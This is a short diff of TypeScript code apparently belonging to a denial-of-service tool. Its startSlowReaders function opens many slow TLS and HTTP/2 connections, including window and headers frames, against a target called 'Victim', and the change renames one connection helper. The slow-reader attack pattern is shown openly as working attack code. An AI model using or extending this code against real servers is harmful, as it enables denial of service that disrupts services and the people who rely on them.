@@ -1,5 +1,5 @@
 import { connect as tlsConnect } from 'node:tls';
-import { http2, openHttp2, openTls, type Victim } from '../attack/open-connections.ts';
+import { http2, openConnection, openHttp2, type Victim } from '../attack/open-connections.ts';
 import { frame, frameTypes, literals, requestFields } from '../raw-http2.ts';
 
 /** A list of several megabytes. */
@@ -21,7 +21,7 @@ export function startSlowReaders(victim: Victim, token: string, count: number): 
   );
   const asked = [http2.window(65_535), frame(frameTypes.headers, 5, 1, fields)];
   for (let at = 0; at < count; at++)
-    if (at % 3 === 0) openTls(victim, head);
+    if (at % 3 === 0) openConnection(victim, head);
     else if (at % 3 === 1) openHttp2(victim, asked);
     else sip(victim, head);
 }
